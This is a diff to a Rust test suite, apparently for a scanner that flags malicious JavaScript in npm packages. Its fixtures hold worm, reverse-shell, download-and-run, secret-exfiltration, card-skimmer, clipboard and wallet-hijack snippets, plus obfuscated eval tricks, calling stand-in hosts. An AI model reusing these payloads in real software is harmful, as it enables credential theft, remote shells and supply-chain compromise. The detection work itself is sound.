@@ -124,11 +124,22 @@ fn worm_writes_workflow_and_publishes() {
     let src = r#"
 const { execSync } = require('child_process');
 const fs = require('fs');
-fs.writeFileSync('.github/workflows/shai.yml', 'on: push');
+fs.writeFileSync('.github/workflows/shai.yml', 'on: push\njobs:\n  x:\n    steps:\n      - run: echo ${{ toJSON(secrets) }} | curl -d @- https://x.example.invalid');
 execSync('npm publish --access public');
 "#;
-    let k = kinds(src);
-    assert!(k.contains(&K::SelfPropagation), "{:?}", facts(src));
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::SelfPropagation && x.2.contains("workflow")),
+        "{f:?}"
+    );
+    // A scaffolding command writing a build template into the project is not a worm.
+    let src = "const fs = require('fs'), path = require('path');\nconst tpl = fs.readFileSync(path.join(__dirname, 'ci.yml'), 'utf8');\nfs.writeFileSync(path.join(process.cwd(), '.github', 'workflows', 'ci.yml'), tpl.replace('{{node}}', '20'));\n";
+    assert!(
+        !kinds(src).contains(&K::SelfPropagation),
+        "{:?}",
+        facts(src)
+    );
 }
 
 #[test]
@@ -225,4 +236,350 @@ path.join(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'), 'x');
             .any(|(_, _, d)| d.contains("decoded data reaches eval()")),
         "{f:?}"
     );
+}
+
+fn has(src: &str, kind: K) -> bool {
+    kinds(src).contains(&kind)
+}
+
+#[test]
+fn eval_reached_through_global_lookups_and_reflect() {
+    // Hex decoded with match/map/fromCharCode and run by a folded globalThis lookup.
+    let hex: String = "require('child_process').exec('id')"
+        .bytes()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let src = format!(
+        "const h = '{hex}';\nglobalThis['ev' + 'al'](h.match(/../g).map((x) => String.fromCharCode(parseInt(x, 16))).join(''));\n"
+    );
+    let f = facts(&src);
+    assert!(has(&src, K::DecodeExecute), "{f:?}");
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("in the decoded payload")),
+        "the hex payload is decoded and analysed: {f:?}"
+    );
+    // Reflect.construct(Function, [...]) with char codes shifted by a constant.
+    let codes: Vec<String> = "require('os').hostname()"
+        .bytes()
+        .map(|b| (u32::from(b) + 5).to_string())
+        .collect();
+    let src = format!(
+        "const K = [{}];\nconst F = Reflect.construct(Function, ['require', String.fromCharCode(...K.map((c) => c - 5))]);\nF(require);\n",
+        codes.join(",")
+    );
+    assert!(has(&src, K::DecodeExecute), "{:?}", facts(&src));
+    // Reflect.apply(eval, ...), eval.call, (0, eval), [].constructor.constructor,
+    // Function.prototype.constructor: each reaches code execution.
+    for call in [
+        "Reflect.apply(eval, null, [atob(P)])",
+        "eval.call(null, atob(P))",
+        "(0, eval)(atob(P))",
+        "[].constructor.constructor(atob(P))()",
+        "new Function.prototype.constructor(atob(P))()",
+        "window['Func' + 'tion'](atob(P))()",
+        "String.fromCharCode.apply(null, [101]) && Reflect.construct(Function, [atob(P)])()",
+    ] {
+        let src = format!("const P = 'aWQ=';\n{call};\n");
+        assert!(has(&src, K::DecodeExecute), "{call}: {:?}", facts(&src));
+    }
+    // A constant `Function` body is analysed, not called decode-execute.
+    let src = "const f = Reflect.construct(Function, ['a', 'return a + 1']);\n";
+    assert!(!has(src, K::DecodeExecute), "{:?}", facts(src));
+    assert!(!has(src, K::DynamicExecute), "{:?}", facts(src));
+}
+
+#[test]
+fn module_loader_reached_without_require() {
+    for loader in [
+        "process.mainModule.require",
+        "globalThis['process'].mainModule['require']",
+        "module.constructor._load",
+        "require('module')._load",
+        "(process.mainModule || module).require.bind(module)",
+    ] {
+        let src = format!(
+            "const r = {loader};\nr('child_' + 'process').execSync('curl -s http://192.0.2.1/x | sh');\n"
+        );
+        let f = facts(&src);
+        assert!(f.iter().any(|x| x.0 == K::ProcessSpawn), "{loader}: {f:?}");
+        assert!(has(&src, K::DownloadExecute), "{loader}: {f:?}");
+    }
+    // Char-code names through a forwarding helper and a table of names.
+    let src = r#"
+const s = (...c) => String.fromCharCode(...c);
+const table = { m: s(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115), v: 'spawn' };
+const g = globalThis[s(112, 114, 111, 99, 101, 115, 115)];
+g.mainModule.require(table.m)[table.v]('nc', ['-e', '/bin/sh', '198.51.100.4', '4444']);
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("spawn(): nc -e /bin/sh 198.51.100.4")),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn data_url_imports_are_decoded_and_analysed() {
+    let b64 = "aW1wb3J0IHtleGVjU3luY30gZnJvbSAnY2hpbGRfcHJvY2Vzcyc7IGV4ZWNTeW5jKCdpZCcpOw==";
+    let src = format!("await import('data:text/javascript;base64,{b64}');\n");
+    let r = javascript::analyze(&src, "index.mjs");
+    let f: Vec<_> = r
+        .behaviours
+        .iter()
+        .map(|b| (b.kind, b.detail.clone()))
+        .collect();
+    assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::ProcessSpawn && x.1.contains("in the decoded payload")),
+        "{f:?}"
+    );
+    let enc = "%72%65%71%75%69%72%65%28%27%63%68%69%6c%64%5f%70%72%6f%63%65%73%73%27%29%2e%65%78%65%63%28%27%69%64%27%29";
+    let src = format!("const e = '{enc}';\nimport(`data:text/javascript,${{e}}`);\n");
+    let f = facts(&src);
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::ProcessSpawn && x.2.contains("in the decoded payload")),
+        "{f:?}"
+    );
+    // An ordinary dynamic import of a package stays an import.
+    let src = "const m = await import('lodash');\n";
+    assert!(!has(src, K::DecodeExecute), "{:?}", facts(src));
+}
+
+#[test]
+fn decoders_built_from_string_methods() {
+    // rot13 through a replace callback in a helper, then reversed, reaches exec.
+    let src = r#"
+const r13 = (s) => s.replace(/[a-zA-Z]/g, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
+require('child_process').exec(r13('uf | 1.2.0.291//:cggu f- yehp'.split('').reverse().join('')));
+"#;
+    let f = facts(src);
+    assert!(has(src, K::DecodeExecute), "{f:?}");
+    assert!(
+        has(src, K::DownloadExecute),
+        "the rot13 text is decoded: {f:?}"
+    );
+    // The same with a block-bodied callback and a modulo.
+    let src = "var r=function(s){return s.replace(/[a-z]/gi,function(c){var b=c<='Z'?65:97;return String.fromCharCode((c.charCodeAt(0)-b+13)%26+b)})};require('child_process').exec(r('phey uggc://192.0.2.9/k | fu'));\n";
+    assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
+    // XOR over char codes, percent decoding, Buffer from byte values.
+    let src = "const k = 7; const d = [100,99].map(c => String.fromCharCode(c ^ k)).join('');\neval(unescape('%72%65%71%75%69%72%65'));\n";
+    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
+    let src = "const zlib = require('zlib');\nnew Function(zlib.inflateSync(Buffer.from(B, 'base64')).toString())();\n";
+    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
+    // AES-decrypted data compiled as a module.
+    let src = r#"
+const crypto = require('crypto');
+const d = crypto.createDecipheriv('aes-256-cbc', key, iv);
+const code = d.update(blob, 'hex', 'utf8') + d.final('utf8');
+const m = new module.constructor();
+m._compile(code, 'x.js');
+"#;
+    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
+    // Ordinary string handling stays quiet.
+    let src = "const slug = (s) => s.toLowerCase().replace(/[^a-z0-9]+/g, '-');\nmodule.exports = (t) => slug(t).split('-').reverse().join('/');\n";
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .all(|x| !matches!(x.0, K::DecodeExecute | K::DynamicExecute | K::Obfuscation)),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn network_callbacks_carry_downloaded_data() {
+    let src = r#"
+const WS = require('ws');
+function link() {
+  const sock = new WS('wss://c2.example.invalid/s');
+  sock.on('message', (buf) => { new Function('require', String(buf))(require); });
+}
+module.exports = link;
+"#;
+    assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
+    let src = "const r = await fetch(u).then((x) => x.text());\nReflect.construct(Function, ['load', r])();\n";
+    let f = javascript::analyze(src, "index.mjs");
+    assert!(
+        f.behaviours.iter().any(|b| b.kind == K::DownloadExecute),
+        "{:?}",
+        f.behaviours
+    );
+    // A response parsed as JSON and logged is not execution.
+    let src = "require('https').get(u, (res) => { let b = ''; res.on('data', (d) => { b += d; }); res.on('end', () => console.log(JSON.parse(b))); });\n";
+    assert!(!has(src, K::DownloadExecute), "{:?}", facts(src));
+}
+
+#[test]
+fn storage_flows_within_a_function() {
+    let src = r#"
+const fs = require('fs'), os = require('os'), path = require('path');
+function stage() {
+  const p = path.join(os.tmpdir(), '.cache.js');
+  fs.writeFileSync(p, Buffer.from(PAYLOAD, 'base64'));
+  require(p);
+}
+stage();
+"#;
+    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
+    let src = r#"
+const fs = require('fs');
+function stage() {
+  fs.writeFileSync('/tmp/.s', Buffer.from(PAYLOAD, 'hex'));
+  eval(fs.readFileSync('/tmp/.s', 'utf8'));
+}
+"#;
+    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
+    // A config file written and read back is not code.
+    let src = "const fs=require('fs');function save(c){fs.writeFileSync('cfg.json', JSON.stringify(c));return JSON.parse(fs.readFileSync('cfg.json','utf8'));}\n";
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .all(|x| !matches!(x.0, K::DecodeExecute | K::DownloadExecute)),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn downloaded_archive_unpacked_by_tar_is_not_run() {
+    let src = r#"
+const fs = require('fs'), path = require('path');
+async function install(dir) {
+  const res = await fetch(URL);
+  fs.writeFileSync(path.join(dir, 'lib.tar.gz'), Buffer.from(await res.arrayBuffer()));
+  require('child_process').execFileSync('tar', ['xzf', 'lib.tar.gz'], { cwd: dir });
+}
+"#;
+    assert!(!has(src, K::DownloadExecute), "{:?}", facts(src));
+    // The downloaded file itself made executable and run is.
+    let src = r#"
+const fs = require('fs');
+async function install() {
+  const res = await fetch(URL);
+  fs.writeFileSync('/tmp/.agent', Buffer.from(await res.arrayBuffer()));
+  fs.chmodSync('/tmp/.agent', 0o755);
+  require('child_process').spawn('/tmp/.agent', [], { detached: true });
+}
+"#;
+    assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
+}
+
+#[test]
+fn workflow_paths_mentioned_are_not_self_propagation() {
+    let src = "const WORKFLOWS = '.github/workflows';\nmodule.exports = { dir: WORKFLOWS, list: () => require('fs').readdirSync(WORKFLOWS) };\n";
+    assert!(!has(src, K::SelfPropagation), "{:?}", facts(src));
+}
+
+#[test]
+fn browser_hijacks() {
+    // fetch hooked in a file that swaps wallet addresses.
+    let src = r#"
+(function(){var F=window.fetch;function S(t){return t.replace(/0x[a-fA-F0-9]{40}/g,'0xATTACKER')}
+window.fetch=function(){return F.apply(this,arguments).then(function(r){return r.text().then(S)})};})();
+"#;
+    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
+    // A wallet provider's request replaced.
+    let src = "if (window.ethereum) { const r = window.ethereum.request.bind(window.ethereum); window.ethereum.request = (q) => r(q); }\n";
+    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
+    // A copy handler that rewrites copied addresses.
+    let src = r#"
+document.addEventListener('copy', function (e) {
+  var t = String(window.getSelection());
+  var out = t.replace(/\b(bc1[a-z0-9]{39,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g, 'bc1qattacker');
+  if (out !== t) { e.clipboardData.setData('text/plain', out); e.preventDefault(); }
+});
+"#;
+    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
+    // A skimmer: card fields, form events, a beacon.
+    let src = r#"
+var sel = 'input[autocomplete^=cc-], input[name*=cvv]';
+document.addEventListener('submit', function () {
+  var data = [].map.call(document.querySelectorAll(sel), function (i) { return i.value; }).join('|');
+  navigator.sendBeacon('https://cdn.example.invalid/p', data);
+});
+"#;
+    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
+    // Benign: a fetch polyfill, an address validator, a copy button.
+    let src = r#"
+if (!window.fetch) { window.fetch = function (u) { return new Promise(function () {}); }; }
+function isAddress(a) { return /^0x[0-9a-fA-F]{40}$/.test(a); }
+function copy(t) { return navigator.clipboard.writeText(t); }
+module.exports = { isAddress, copy };
+"#;
+    assert!(!has(src, K::BrowserHijack), "{:?}", facts(src));
+}
+
+#[test]
+fn socket_piped_into_a_shell_is_a_reverse_shell() {
+    let src = r#"
+const net = require('net'), cp = require('child_process');
+(function connect() {
+  const s = net.connect(4444, '198.51.100.7', () => {
+    const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
+    s.pipe(sh.stdin); sh.stdout.pipe(s);
+  });
+})();
+"#;
+    assert!(has(src, K::ReverseShell), "{:?}", facts(src));
+    // A socket and a build step piped to the console are not.
+    let src = "const net=require('net'),cp=require('child_process');const s=net.connect(80,'localhost');const p=cp.spawn('make',[]);p.stdout.pipe(process.stdout);\n";
+    assert!(!has(src, K::ReverseShell), "{:?}", facts(src));
+}
+
+#[test]
+fn node_eval_code_and_array_callbacks_are_followed() {
+    // `node -e` with inline code: the code is analysed.
+    let src = "const cp = require('child_process');\ncp.spawn(process.execPath, ['-e', \"eval(Buffer.from(P,'base64').toString())\"], { detached: true });\n";
+    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
+    // Secret files named in an array read in a callback and posted.
+    let src = r#"
+const f = require('fs'), h = require('os').homedir(), d = {};
+['.npmrc', '.git-credentials'].forEach(function (n) { d[n] = f.readFileSync(h + '/' + n, 'utf8'); });
+require('https').request({ host: 'x.example.invalid', method: 'POST' }).end(JSON.stringify(d));
+"#;
+    let k = kinds(src);
+    assert!(k.contains(&K::SecretRead), "{:?}", facts(src));
+    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
+    // A module bound in a try with a null fallback keeps its name.
+    let src = "let WS; try { WS = require('ws'); } catch (e) { WS = null; }\nfunction go() { const s = new WS('wss://h.example.invalid'); s.on('message', (m) => eval(String(m))); }\n";
+    assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
+}
+
+#[test]
+fn code_hidden_by_whitespace_is_named() {
+    let src = format!(
+        "module.exports = {{ a: 1 }};{}require('child_process').exec('id');\n",
+        " ".repeat(300)
+    );
+    let f = facts(&src);
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::Obfuscation && x.2.contains("columns to the right")),
+        "{f:?}"
+    );
+    let src = format!(
+        "module.exports = 1;\n{}require('child_process').exec('id');\n",
+        "\n".repeat(800)
+    );
+    let f = facts(&src);
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::Obfuscation && x.2.contains("blank lines")),
+        "{f:?}"
+    );
+    // Indentation and a few blank lines are ordinary.
+    let src = format!(
+        "{}const a = 1;\n\n\n\nmodule.exports = a;\n",
+        " ".repeat(200)
+    );
+    assert!(!has(&src, K::Obfuscation), "{:?}", facts(&src));
+}
+
+#[test]
+fn parameters_shadow_outer_names() {
+    // `v` outside is decoded data; the parameter `v` of `k` is not.
+    let src = "let v; v = atob('aWQ=');\nfunction k(v) { try { return (0, eval)(v); } catch (e) {} }\nmodule.exports = k;\n";
+    assert!(!has(src, K::DecodeExecute), "{:?}", facts(src));
 }
